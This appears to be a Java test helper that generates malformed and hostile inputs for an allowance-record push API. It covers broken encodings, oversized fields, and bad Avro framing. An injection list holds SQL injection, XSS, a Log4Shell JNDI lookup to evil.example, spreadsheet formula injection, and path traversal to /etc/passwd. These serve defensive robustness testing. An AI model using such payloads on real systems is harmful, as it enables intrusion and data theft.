package org.exchangehub.reliability;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.Charset;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.function.BiFunction;

import org.apache.avro.Schema;
import org.apache.avro.generic.GenericDatumWriter;
import org.apache.avro.generic.GenericRecord;
import org.apache.avro.io.BinaryEncoder;
import org.apache.avro.io.EncoderFactory;
import org.exchangehub.FictionalAllowances;
import org.exchangehub.schema.RecordJson;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * Generated malformed and hostile inputs for the push API, each made from a valid subsistence-allowance record of
 * its own fictional person: wrong types, huge fields, deep nesting, invalid UTF-8 and GB18030 bytes, wrong check
 * characters and dates, injection strings, structural garbage, unknown schema ids, truncated and mislabelled Avro,
 * wrong content types and record types. {@code mayBeAccepted} marks inputs a correct hub may accept (an injection
 * string in a free-text field is just text); every other one must be refused (4xx) or quarantined with a reason.
 */
final class HostileInputs {

    static final String AVRO = "application/vnd.exchangehub.avro";
    static final String AVRO_BATCH = "application/vnd.exchangehub.avro-batch";
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final List<String> INJECTIONS = List.of("' OR '1'='1", "1; DROP TABLE exchange_journal;--",
            "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "=cmd|' /C calc'!A0", "../../../etc/passwd",
            "line\r\n2026-11-23 INFO forged log line", "\u0000\u0001\u0007", "%s%s%s%n", "{{7*7}}", "#{7*7}");

    /** One input: where it goes, with which content type, and whether accepting it would be correct. */
    record Case(String kind, String recordType, String contentType, byte[] body, boolean mayBeAccepted) {
    }

    private final Random random;
    private final Schema schema;
    private final int schemaId;

    HostileInputs(long seed, Schema schema, int schemaId) {
        this.random = new Random(seed);
        this.schema = schema;
        this.schemaId = schemaId;
    }

    private static final List<BiFunction<HostileInputs, Integer, Case>> KINDS = List.of(
            HostileInputs::wrongType, HostileInputs::hugeField, HostileInputs::deepNesting, HostileInputs::invalidUtf8,
            HostileInputs::gb18030Bytes, HostileInputs::wrongCheckCharacter, HostileInputs::impossibleDate,
            HostileInputs::injectionInCheckedField, HostileInputs::injectionInFreeText, HostileInputs::structural,
            HostileInputs::missingRequired, HostileInputs::unknownSchemaId, HostileInputs::truncatedAvro,
            HostileInputs::badAvroBatch, HostileInputs::wrongContentType, HostileInputs::unknownRecordType,
            HostileInputs::hugeNumbers, HostileInputs::mixedBatch, HostileInputs::loneSurrogate,
            HostileInputs::invalidUtf8InAvro, HostileInputs::blankOrScalar);

    /** Input {@code n}; the person behind it is {@code person}. */
    Case next(int n, int person) {
        return KINDS.get(n % KINDS.size()).apply(this, person);
    }

    static int kinds() {
        return KINDS.size();
    }

    private Case wrongType(int i) {
        ObjectNode record = record(i);
        switch (random.nextInt(6)) {
            case 0 -> record.put("householdSize", "many");
            case 1 -> record.putObject("monthlyAmountFen").put("value", 1);
            case 2 -> record.put("status", 42);
            case 3 -> record.put("startDate", true);
            case 4 -> record.putArray("recipientIdNumber").add(1).add(2);
            default -> record.put("occurredAt", "yesterday");
        }
        return json("wrong type", record, false);
    }

    private Case hugeField(int i) {
        ObjectNode record = record(i);
        String field = List.of("recipientName", "address", "allowanceNo", "sourceKey").get(random.nextInt(4));
        int length = random.nextInt(20) == 0 ? 1_000_000 + random.nextInt(2_000_000) : 5_000 + random.nextInt(200_000);
        record.put(field, "很".repeat(length));
        return json("huge field", record, false);
    }

    private Case deepNesting(int i) {
        int depth = 2_000 + random.nextInt(20_000);
        String nested = "[".repeat(depth) + "]".repeat(depth);
        String body = random.nextBoolean() ? nested
                : record(i).toString().replace("\"address\":", "\"address\":" + nested + ",\"x\":");
        return new Case("deep nesting", "subsistence-allowance", "application/json", body.getBytes(UTF_8), false);
    }

    private Case invalidUtf8(int i) {
        byte[] body = record(i).toString().getBytes(UTF_8);
        byte[][] bad = { { (byte) 0xC3, 0x28 }, { (byte) 0xED, (byte) 0xA0, (byte) 0x80 }, { (byte) 0xFF },
                { (byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80 } };
        return new Case("invalid UTF-8", "subsistence-allowance", "application/json",
                splice(body, indexOf(body, FictionalAllowances.name(i)), bad[random.nextInt(bad.length)]), false);
    }

    /** Well-formed UTF-8 whose JSON escapes name half a surrogate pair: text no department can have meant. */
    private Case loneSurrogate(int i) {
        String escape = List.of("\\ud800", "\\udfff", "\\ud83d x").get(random.nextInt(3));
        String body = record(i).toString().replace(FictionalAllowances.name(i), FictionalAllowances.name(i) + escape);
        return new Case("lone surrogate escape", "subsistence-allowance", "application/json", body.getBytes(UTF_8),
                false);
    }

    /** A valid Avro record with a byte of its name that never occurs in UTF-8 (same length, so the framing holds). */
    private Case invalidUtf8InAvro(int i) {
        byte[] wire = avro(i);
        int at = indexOf(wire, FictionalAllowances.name(i));
        wire[at + random.nextInt(3)] = (byte) List.of(0xFF, 0xC0, 0xFE).get(random.nextInt(3)).intValue();
        return new Case("invalid UTF-8 in an Avro string", "subsistence-allowance", AVRO, wire, false);
    }

    private Case blankOrScalar(int i) {
        String body = List.of(" ", "\r\n\t ", "42", "-0.5e3", "true", "\"" + FictionalAllowances.name(i) + "\"")
                .get(random.nextInt(6));
        return new Case("blank or scalar body", "subsistence-allowance", "application/json", body.getBytes(UTF_8),
                false);
    }

    private Case gb18030Bytes(int i) {
        String text = record(i).toString();
        return new Case("GB18030 bytes as UTF-8", "subsistence-allowance", "application/json",
                text.getBytes(Charset.forName("GB18030")), false);
    }

    private Case wrongCheckCharacter(int i) {
        ObjectNode record = record(i);
        String id = FictionalAllowances.idNumber(i);
        char wrong = "0123456789X".charAt((("0123456789X".indexOf(id.charAt(17)) + 1 + random.nextInt(10)) % 11));
        record.put("recipientIdNumber", id.substring(0, 17) + wrong);
        return json("wrong check character", record, false);
    }

    private Case impossibleDate(int i) {
        ObjectNode record = record(i);
        switch (random.nextInt(4)) {
            case 0 -> record.put("startDate", "2026-02-30");
            case 1 -> record.put("occurredAt", "2026-13-01T00:00:00+08:00");
            case 2 -> record.put("recipientIdNumber", "33010619401340" + "0011");
            default -> record.put("divisionCode", "999999");
        }
        return json("impossible date or code", record, false);
    }

    private Case injectionInCheckedField(int i) {
        ObjectNode record = record(i);
        String field = List.of("recipientIdNumber", "divisionCode", "status", "startDate").get(random.nextInt(4));
        record.put(field, INJECTIONS.get(random.nextInt(INJECTIONS.size())));
        return json("injection in a checked field", record, false);
    }

    private Case injectionInFreeText(int i) {
        ObjectNode record = record(i);
        String field = List.of("recipientName", "address", "allowanceNo").get(random.nextInt(3));
        record.put(field, INJECTIONS.get(random.nextInt(INJECTIONS.size())));
        return json("injection in free text", record, true);
    }

    private Case structural(int i) {
        List<String> bodies = List.of("", "null", "[]", "{}", "[null]", "[1,2,3]", "\"text\"", "{\"records\":5}",
                "[{}]", "{\"a\":", "[" + record(i) + ",", record(i) + "garbage", "{\"sourceKey\":1,\"sourceKey\":2}",
                "NaN", "[[" + record(i) + "]]", "{\"records\":[" + record(i) + "],\"records\":{}}");
        String body = bodies.get(random.nextInt(bodies.size()));
        return new Case("structural", "subsistence-allowance", "application/json", body.getBytes(UTF_8), false);
    }

    private Case missingRequired(int i) {
        ObjectNode record = record(i);
        record.remove(List.of("sourceKey", "allowanceNo", "divisionCode", "status", "startDate", "occurredAt")
                .get(random.nextInt(6)));
        return json("missing required field", record, false);
    }

    private Case unknownSchemaId(int i) {
        byte[] wire = avro(i);
        ByteBuffer.wrap(wire).putInt(1, 900_000 + random.nextInt(100_000));
        return new Case("unknown schema id", "subsistence-allowance", AVRO, wire, false);
    }

    private Case truncatedAvro(int i) {
        byte[] wire = avro(i);
        byte[] body = random.nextInt(4) == 0 ? new byte[] { 0 } : Arrays.copyOf(wire, 5 + random.nextInt(wire.length - 6));
        if (random.nextInt(4) == 0) {
            body = wire.clone();
            body[0] = (byte) (1 + random.nextInt(255));
        }
        return new Case("truncated or mislabelled Avro", "subsistence-allowance", AVRO, body, false);
    }

    private Case badAvroBatch(int i) {
        byte[] wire = avro(i);
        ByteBuffer frame = ByteBuffer.allocate(4 + wire.length);
        frame.putInt(random.nextBoolean() ? wire.length + 1 + random.nextInt(1000) : -1 - random.nextInt(1000));
        frame.put(wire);
        return new Case("bad Avro batch framing", "subsistence-allowance", AVRO_BATCH, frame.array(), false);
    }

    private Case wrongContentType(int i) {
        String type = List.of("text/plain", "application/xml", "text/csv", "application/octet-stream",
                "multipart/form-data; boundary=x").get(random.nextInt(5));
        return new Case("wrong content type", "subsistence-allowance", type, record(i).toString().getBytes(UTF_8),
                false);
    }

    private Case unknownRecordType(int i) {
        String type = List.of("no-such-type", "..%2F..%2Fadmin", "subsistence-allowance.avsc", "%00", "person;drop")
                .get(random.nextInt(5));
        return new Case("unknown record type", type, "application/json", record(i).toString().getBytes(UTF_8), false);
    }

    private Case hugeNumbers(int i) {
        ObjectNode record = record(i);
        String field = random.nextBoolean() ? "householdSize" : "monthlyAmountFen";
        String text = record.toString().replaceFirst("\"" + field + "\":-?[0-9]+",
                "\"" + field + "\":" + List.of("1e999", "-99999999999999999999999999", "9".repeat(5000), "1.5",
                        "0x10").get(random.nextInt(5)));
        return new Case("huge or fractional number", "subsistence-allowance", "application/json", text.getBytes(UTF_8),
                false);
    }

    /** A valid record followed by a broken one: the first may be accepted, the second must be quarantined. */
    private Case mixedBatch(int i) {
        ObjectNode broken = record(i);
        broken.put("recipientIdNumber", FictionalAllowances.idNumber(i).substring(0, 17));
        String body = "[" + record(i + 1) + "," + broken + "]";
        return new Case("batch with one broken record", "subsistence-allowance", "application/json",
                body.getBytes(UTF_8), true);
    }

    private ObjectNode record(int i) {
        try {
            return (ObjectNode) JSON.readTree(FictionalAllowances.record(i));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static Case json(String kind, ObjectNode record, boolean mayBeAccepted) {
        return new Case(kind, "subsistence-allowance", "application/json", record.toString().getBytes(UTF_8),
                mayBeAccepted);
    }

    /** The record in the wire format: magic byte, schema id, Avro binary. */
    private byte[] avro(int i) {
        ObjectNode json = record(i);
        json.put("recordId", "00000000-0000-4000-8000-000000000001");
        json.put("ingestedAt", "2026-11-20T09:12:05+08:00");
        GenericRecord record = RecordJson.fromJson(json, schema);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(0);
        out.writeBytes(ByteBuffer.allocate(4).putInt(schemaId).array());
        try {
            BinaryEncoder encoder = EncoderFactory.get().binaryEncoder(out, null);
            new GenericDatumWriter<GenericRecord>(schema).write(record, encoder);
            encoder.flush();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static int indexOf(byte[] body, String text) {
        byte[] needle = text.getBytes(UTF_8);
        outer: for (int i = 0; i <= body.length - needle.length; i++) {
            for (int j = 0; j < needle.length; j++) {
                if (body[i + j] != needle[j]) {
                    continue outer;
                }
            }
            return i;
        }
        throw new IllegalArgumentException("not found");
    }

    private static byte[] splice(byte[] body, int at, byte[] insert) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(body, 0, at);
        out.writeBytes(insert);
        out.write(body, at, body.length - at);
        return out.toByteArray();
    }
}
